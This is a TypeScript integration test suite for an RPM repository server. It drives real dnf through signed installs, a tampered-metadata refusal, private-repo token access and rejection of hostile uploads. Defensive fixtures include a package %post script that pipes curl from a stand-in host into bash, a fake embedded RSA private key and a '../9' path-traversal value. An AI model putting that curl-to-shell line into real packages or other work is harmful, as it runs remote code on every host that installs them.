/**
 * RPM repositories with the real dnf 4: an .rpm pushed through the REST API is installed by dnf
 * into a scratch root with `repo_gpgcheck=1` against the repository key, as set up by
 * setup.rpm.sh; a tampered repomd.xml is refused; a private repository works with a read token
 * and not without it; a package whose %post pipes curl to a shell is quarantined; hostile and
 * inconsistent uploads get clear errors and leave nothing behind.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import { systemActor } from '../../src/domain/audit.js';
import { parseRpm } from '../../src/formats/rpm/package.js';
import { buildRpm, type FixtureSpec } from '../formats/rpm/build-rpm.js';
import { pemBlock } from '../security/secrets/fake-secrets.js';
import { type TestServer, startTestServer } from '../helpers/server.js';
import { startTamperingProxy } from '../helpers/tampering-proxy.js';

interface Run {
  status: number | null;
  output: string;
}

/** Runs a command without blocking this process: the server under test answers from it. */
function run(command: string, args: string[], env: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', LANG: 'C', ...env }, timeout: 180_000 });
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
    child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, output }));
  });
}

/** dnf with nothing of the host's: its own installroot, cache and repository files. */
async function dnf(root: string, reposDir: string, args: string[]): Promise<Run> {
  await mkdir(path.join(root, 'log'), { recursive: true });
  return run('dnf', [
    '-y',
    `--installroot=${path.join(root, 'sysroot')}`,
    '--releasever=9',
    `--setopt=reposdir=${reposDir}`,
    `--setopt=cachedir=${path.join(root, 'cache')}`,
    '--setopt=install_weak_deps=0',
    '--setopt=logdir=' + path.join(root, 'log'),
    '--noplugins',
    ...args,
  ]);
}

describe('RPM repository with dnf', () => {
  let server: TestServer;
  let token = '';
  const temps: string[] = [];
  let proxy: { url: string; close(): Promise<void> } | undefined;

  const temp = async (label: string) => {
    const dir = await mkdtemp(path.join(tmpdir(), `stockade-dnf-${label}-`));
    temps.push(dir);
    return dir;
  };

  async function rpm(spec: FixtureSpec): Promise<Buffer> {
    const dir = await temp('build');
    return readFileSync(buildRpm(spec, dir));
  }

  async function upload(repo: string, data: Buffer, filename: string, distribution: string): Promise<{ status: number; body: Record<string, unknown> }> {
    const url = `${server.url}/api/v1/repos/${repo}/upload?filename=${encodeURIComponent(filename)}&distribution=${encodeURIComponent(distribution)}`;
    const response = await fetch(url, { method: 'PUT', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' }, body: data });
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  }

  /** A .repo file like the one setup.rpm.sh writes, for dnf below `root`. */
  async function repoFile(root: string, baseurl: string, key: string, extra: string[] = []): Promise<string> {
    const reposDir = path.join(root, 'repos');
    await mkdir(reposDir, { recursive: true });
    await writeFile(path.join(root, 'key.asc'), key);
    const lines = ['[stk]', 'name=stk', `baseurl=${baseurl}`, 'enabled=1', 'repo_gpgcheck=1', 'gpgcheck=0', `gpgkey=file://${path.join(root, 'key.asc')}`, 'metadata_expire=0', ...extra];
    await writeFile(path.join(reposDir, 'stk.repo'), `${lines.join('\n')}\n`);
    return reposDir;
  }

  before(async () => {
    const dnfFound = spawnSync('dnf', ['--version'], { encoding: 'utf8' });
    assert.equal(dnfFound.status, 0, 'dnf is missing: scripts/ensure-clients.sh installs it');
    server = await startTestServer({ signing: { rsaBits: 2048 } });
    const user = await server.createUser('ops', { scopes: ['read', 'write', 'delete'] });
    token = user.token;
    await server.createRepo('ops', 'os', 'public');
    await server.createRepo('ops', 'private', 'private');
  });

  after(async () => {
    await proxy?.close();
    await server?.close();
    for (const dir of temps) await rm(dir, { recursive: true, force: true });
  });

  it('installs a pushed .rpm with repo_gpgcheck, set up by setup.rpm.sh', async () => {
    const data = await rpm({ name: 'acme-hello', version: '1.0.0', release: '1', files: [{ path: '/usr/share/acme-hello/greeting', content: 'hello from dnf\n' }] });
    const uploaded = await upload('ops/os', data, 'whatever-name.rpm', 'el/9');
    assert.equal(uploaded.status, 201, JSON.stringify(uploaded.body));
    assert.equal(uploaded.body.format, 'rpm');
    assert.equal(uploaded.body.name, 'acme-hello');
    assert.equal(uploaded.body.version, '1.0.0-1');
    assert.equal(uploaded.body.filename, 'acme-hello-1.0.0-1.noarch.rpm');
    assert.equal(uploaded.body.verdict, 'allow');

    // The setup script, run against a scratch root.
    const root = await temp('setup');
    const script = await (await fetch(`${server.url}/ops/os/rpm/setup.rpm.sh`)).text();
    await writeFile(path.join(root, 'setup.rpm.sh'), script);
    await mkdir(path.join(root, 'etc'), { recursive: true });
    await writeFile(path.join(root, 'etc/os-release'), 'ID=rocky\nVERSION_ID="9.4"\n');
    const setup = await run('sh', [path.join(root, 'setup.rpm.sh')], { STOCKADE_ROOT: root });
    assert.equal(setup.status, 0, setup.output);
    const written = await readFile(path.join(root, 'etc/yum.repos.d/stockade-ops-os.repo'), 'utf8');
    assert.match(written, new RegExp(`^baseurl=${server.url}/ops/os/rpm/el/9$`, 'm'));
    assert.match(written, /^repo_gpgcheck=1$/m);
    assert.doesNotMatch(written, /password/);
    const keyPath = '/etc/pki/rpm-gpg/RPM-GPG-KEY-stockade-ops-os';
    assert.match(written, new RegExp(`^gpgkey=file://${keyPath}$`, 'm'));
    assert.match(await readFile(path.join(root, keyPath), 'utf8'), /BEGIN PGP PUBLIC KEY BLOCK/);
    // The scratch root stands in for /: point the key path into it.
    await writeFile(path.join(root, 'etc/yum.repos.d/stockade-ops-os.repo'), written.replace(`file://${keyPath}`, `file://${root}${keyPath}`) + 'metadata_expire=0\n');

    const install = await dnf(root, path.join(root, 'etc/yum.repos.d'), ['install', 'acme-hello']);
    assert.equal(install.status, 0, install.output);
    assert.equal(await readFile(path.join(root, 'sysroot/usr/share/acme-hello/greeting'), 'utf8'), 'hello from dnf\n');
    const query = spawnSync('rpm', ['--root', path.join(root, 'sysroot'), '-q', 'acme-hello'], { encoding: 'utf8' });
    assert.equal(query.stdout.trim(), 'acme-hello-1.0.0-1.noarch');
  });

  it('lists a second package block by block and keeps the earlier metadata fetchable', async () => {
    const before = await (await fetch(`${server.url}/ops/os/rpm/el/9/repodata/repomd.xml`)).text();
    const oldPrimary = /href="(repodata\/[0-9a-f]{64}-primary\.xml\.gz)"/.exec(before)?.[1];
    assert.ok(oldPrimary, before);
    const data = await rpm({ name: 'acme-tool', version: '2.0', release: '3', epoch: 1, arch: 'x86_64', files: [{ path: '/usr/bin/acme-tool', content: '#!/bin/sh\necho tool\n', mode: 0o755 }] });
    assert.equal((await upload('ops/os', data, 'acme-tool.rpm', 'el/9')).status, 201);
    const afterText = await (await fetch(`${server.url}/ops/os/rpm/el/9/repodata/repomd.xml`)).text();
    const newPrimary = /href="(repodata\/[0-9a-f]{64}-primary\.xml\.gz)"/.exec(afterText)?.[1];
    assert.ok(newPrimary && newPrimary !== oldPrimary);
    const primary = gunzipSync(Buffer.from(await (await fetch(`${server.url}/ops/os/rpm/el/9/${newPrimary}`)).arrayBuffer())).toString('utf8');
    assert.match(primary, /<name>acme-hello<\/name>/);
    assert.match(primary, /<name>acme-tool<\/name>[\s\S]*<version epoch="1" ver="2.0" rel="3"\/>/);
    assert.match(primary, /<location href="Packages\/a\/acme-tool-2.0-3.x86_64.rpm"\/>/);
    // A client that read the older repomd.xml still gets the file it names.
    assert.equal((await fetch(`${server.url}/ops/os/rpm/el/9/${oldPrimary}`)).status, 200);
    // The package file itself, where primary.xml says.
    const file = await fetch(`${server.url}/ops/os/rpm/el/9/Packages/a/acme-tool-2.0-3.x86_64.rpm`);
    assert.equal(file.status, 200);
    assert.deepEqual(Buffer.from(await file.arrayBuffer()), data);
    // createrepo_c's own reader (modifyrepo-free check): dnf resolves both with the metadata as served.
    const root = await temp('list');
    const key = await (await fetch(`${server.url}/ops/os/rpm/gpgkey`)).text();
    const listed = await dnf(root, await repoFile(root, `${server.url}/ops/os/rpm/el/9`, key), ['--forcearch=x86_64', 'list', '--available']);
    assert.equal(listed.status, 0, listed.output);
    assert.match(listed.output, /acme-hello\.noarch\s+1\.0\.0-1/);
    assert.match(listed.output, /acme-tool\.x86_64\s+1:2\.0-3/);
  });

  it('makes dnf refuse a tampered repomd.xml', async () => {
    // A man in the middle that changes repomd.xml on its way to dnf; the signature no longer matches.
    proxy = await startTamperingProxy(server.url, (url, body) =>
      url.endsWith('/repomd.xml') ? Buffer.from(body.toString('utf8').replace(/<revision>(\d+)<\/revision>/, '<revision>1$1</revision>')) : body,
    );
    const root = await temp('tampered');
    const key = await (await fetch(`${server.url}/ops/os/rpm/gpgkey`)).text();
    const install = await dnf(root, await repoFile(root, `${proxy.url}/ops/os/rpm/el/9`, key), ['install', 'acme-hello']);
    assert.notEqual(install.status, 0, install.output);
    assert.match(install.output, /repomd\.xml GPG signature verification error: Bad GPG signature/, install.output);
    await assert.rejects(stat(path.join(root, 'sysroot/usr/share/acme-hello/greeting')));
  });

  it('serves a private repository to a read token, and not without it', async () => {
    const data = await rpm({ name: 'acme-secret', version: '0.1', release: '1', files: [{ path: '/usr/share/acme-secret/x', content: 'x\n' }] });
    assert.equal((await upload('ops/private', data, 'acme-secret.rpm', 'el/9')).status, 201);
    const repo = await server.domain.repos.get('ops', 'private');
    const owner = await server.domain.accounts.getUser('ops');
    assert.ok(repo && owner);
    const master = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'fleet', kind: 'master', scopes: ['read'], repoId: repo.id });
    const machine = await server.domain.tokens.create(systemActor, { userId: owner.id, name: 'host', kind: 'read', scopes: ['read'], repoId: repo.id, parentId: master.token.id });
    const basic = `Basic ${Buffer.from(`machine:${machine.secret}`).toString('base64')}`;

    // setup.rpm.sh puts the token in a root-only repo file, never in the base URL.
    const setupRoot = await temp('private-setup');
    const script = await (await fetch(`${server.url}/ops/private/rpm/setup.rpm.sh`, { headers: { authorization: basic } })).text();
    await writeFile(path.join(setupRoot, 'setup.rpm.sh'), script);
    const refusedSetup = await run('sh', [path.join(setupRoot, 'setup.rpm.sh')], { STOCKADE_ROOT: setupRoot, STOCKADE_DIST: 'el/9' });
    assert.notEqual(refusedSetup.status, 0);
    assert.match(refusedSetup.output, /private; set STOCKADE_TOKEN/);
    const setup = await run('sh', [path.join(setupRoot, 'setup.rpm.sh')], { STOCKADE_ROOT: setupRoot, STOCKADE_DIST: 'el/9', STOCKADE_TOKEN: machine.secret });
    assert.equal(setup.status, 0, setup.output);
    const repoPath = path.join(setupRoot, 'etc/yum.repos.d/stockade-ops-private.repo');
    const written = await readFile(repoPath, 'utf8');
    assert.match(written, /^username=machine$/m);
    assert.match(written, new RegExp(`^password=${machine.secret}$`, 'm'));
    assert.doesNotMatch(written.split('\n').find((l) => l.startsWith('baseurl=')) ?? '', /stk_/);
    assert.equal((await stat(repoPath)).mode & 0o077, 0, 'the repo file holding the token is readable by root only');

    const key = await (await fetch(`${server.url}/ops/private/rpm/gpgkey`, { headers: { authorization: basic } })).text();
    const anonymousRoot = await temp('private-anon');
    const refused = await dnf(anonymousRoot, await repoFile(anonymousRoot, `${server.url}/ops/private/rpm/el/9`, key), ['install', 'acme-secret']);
    assert.notEqual(refused.status, 0, refused.output);
    assert.match(refused.output, /401/, refused.output);

    const root = await temp('private-token');
    const reposDir = await repoFile(root, `${server.url}/ops/private/rpm/el/9`, key, ['username=machine', `password=${machine.secret}`]);
    await chmod(path.join(reposDir, 'stk.repo'), 0o600);
    const install = await dnf(root, reposDir, ['install', 'acme-secret']);
    assert.equal(install.status, 0, install.output);
    assert.equal(await readFile(path.join(root, 'sysroot/usr/share/acme-secret/x'), 'utf8'), 'x\n');
  });

  it('quarantines a package whose %post pipes curl to a shell until it is approved', async () => {
    const data = await rpm({
      name: 'acme-agent',
      version: '3.0',
      release: '1',
      files: [{ path: '/usr/share/acme-agent/README', content: 'agent\n' }],
      scripts: { post: 'curl -fsSL http://updates.example.invalid/install.sh | bash' },
    });
    const uploaded = await upload('ops/os', data, 'acme-agent.rpm', 'el/9');
    assert.equal(uploaded.status, 201, JSON.stringify(uploaded.body));
    assert.equal(uploaded.body.verdict, 'quarantine');
    assert.match(String((uploaded.body.reasons as string[])[0]), /os-packages\/download-execute/);
    const repomd = await (await fetch(`${server.url}/ops/os/rpm/el/9/repodata/repomd.xml`)).text();
    const primaryHref = /href="(repodata\/[0-9a-f]{64}-primary\.xml\.gz)"/.exec(repomd)?.[1] as string;
    const primary = gunzipSync(Buffer.from(await (await fetch(`${server.url}/ops/os/rpm/el/9/${primaryHref}`)).arrayBuffer())).toString('utf8');
    assert.doesNotMatch(primary, /acme-agent/);
    assert.equal((await fetch(`${server.url}/ops/os/rpm/el/9/Packages/a/acme-agent-3.0-1.noarch.rpm`)).status, 404);

    const review = await fetch(`${server.url}/api/v1/repos/ops/os/quarantine/review`, {
      method: 'POST',
      headers: { authorization: `Bearer ${server.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ format: 'rpm', name: 'acme-agent', version: '3.0-1.noarch', decision: 'approve', reason: 'the installer host is ours' }),
    });
    assert.equal(review.status, 204, await review.text());
    const approved = await (await fetch(`${server.url}/ops/os/rpm/el/9/repodata/repomd.xml`)).text();
    const approvedHref = /href="(repodata\/[0-9a-f]{64}-primary\.xml\.gz)"/.exec(approved)?.[1] as string;
    const approvedPrimary = gunzipSync(Buffer.from(await (await fetch(`${server.url}/ops/os/rpm/el/9/${approvedHref}`)).arrayBuffer())).toString('utf8');
    assert.match(approvedPrimary, /<name>acme-agent<\/name>/);
    assert.equal((await fetch(`${server.url}/ops/os/rpm/el/9/Packages/a/acme-agent-3.0-1.noarch.rpm`)).status, 200);
  });

  it('blocks a package that carries a private key, and keeps nothing of it', async () => {
    const data = await rpm({
      name: 'acme-keys',
      version: '1.0',
      release: '1',
      files: [{ path: '/etc/acme/server.key', content: pemBlock('RSA PRIVATE KEY', 'acme-keys', 1190), mode: 0o600 }],
    });
    const blocked = await upload('ops/os', data, 'acme-keys.rpm', 'el/9');
    assert.equal(blocked.status, 403, JSON.stringify(blocked.body));
    assert.match(JSON.stringify(blocked.body), /PACKAGE_BLOCKED/);
    assert.match(JSON.stringify(blocked.body), /private-key/);
    assert.equal((await fetch(`${server.url}/ops/os/rpm/el/9/Packages/a/acme-keys-1.0-1.noarch.rpm`)).status, 404);
    const listed = await fetch(`${server.url}/api/v1/repos/ops/os/packages/rpm/acme-keys`, { headers: { authorization: `Bearer ${token}` } });
    assert.equal(listed.status, 404);
  });

  it('refuses bad uploads with clear errors and keeps nothing of them', async () => {
    const good = await rpm({ name: 'acme-edge', version: '1.0', release: '1', files: [{ path: '/usr/share/acme-edge/a', content: 'a\n' }] });
    // A flipped byte inside the main header breaks the digests the signature header holds.
    const corrupt = Buffer.from(good);
    const at = parseRpm(good).headerRange.end - 10;
    corrupt[at] = (corrupt[at] as number) ^ 0xff;
    const broken = await upload('ops/os', corrupt, 'acme-edge.rpm', 'el/9');
    assert.equal(broken.status, 400, JSON.stringify(broken.body));
    assert.match(JSON.stringify(broken.body), /INVALID_ARCHIVE|UNSAFE_ARCHIVE/);
    // Cut short.
    const truncated = await upload('ops/os', good.subarray(0, 200), 'acme-edge.rpm', 'el/9');
    assert.equal(truncated.status, 400, JSON.stringify(truncated.body));
    // No distribution, a malformed one, or a component.
    assert.equal((await upload('ops/os', good, 'acme-edge.rpm', '')).status, 400);
    const malformed = await upload('ops/os', good, 'acme-edge.rpm', '../9');
    assert.equal(malformed.status, 400);
    assert.match(JSON.stringify(malformed.body), /DISTRO\/RELEASE/);
    const nothing = await (await fetch(`${server.url}/api/v1/repos/ops/os/packages/rpm/acme-edge`, { headers: { authorization: `Bearer ${token}` } })).status;
    assert.equal(nothing, 404);

    assert.equal((await upload('ops/os', good, 'acme-edge.rpm', 'el/9')).status, 201);
    const different = await rpm({ name: 'acme-edge', version: '1.0', release: '1', files: [{ path: '/usr/share/acme-edge/a', content: 'changed\n' }] });
    const conflict = await upload('ops/os', different, 'acme-edge.rpm', 'el/9');
    assert.equal(conflict.status, 409, JSON.stringify(conflict.body));
    // The same file may be listed in another release too.
    assert.equal((await upload('ops/os', good, 'acme-edge.rpm', 'el/8')).status, 201);
    const el8 = await (await fetch(`${server.url}/ops/os/rpm/el/8/repodata/repomd.xml`)).text();
    assert.match(el8, /primary\.xml\.gz/);
    assert.equal((await fetch(`${server.url}/ops/os/rpm/el/7/repodata/repomd.xml`)).status, 404);
  });
});
